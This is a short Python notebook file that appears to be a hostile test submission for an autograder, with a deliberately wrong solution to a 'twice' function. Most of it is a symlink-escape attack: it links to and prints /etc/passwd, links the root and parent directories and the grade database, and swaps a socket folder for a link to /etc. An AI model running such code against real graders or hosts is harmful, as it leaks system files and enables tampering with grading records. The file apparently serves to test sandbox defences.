"""Leaves links to the grader's files in its working folder, for whoever reads or changes them afterwards.

ours: twice=0
rest: any
"""
# %% added
import os, shutil

for name, target in (("a", "/etc/passwd"), ("hostile.ipynb", "/etc/passwd"), ("up", "../.."), ("root", "/"), ("gradebook.db", "../../../gradebook.db")):
    try:
        os.symlink(target, name)
        print(name, os.listdir(name) if os.path.isdir(name) else open(name).read(200))
    except OSError as error:
        print(name, error)
try:
    os.rename(".sockets", ".moved")
    os.symlink("/etc", ".sockets")
except OSError as error:
    print(error)
# %% solution twice
def twice(x):
    return x
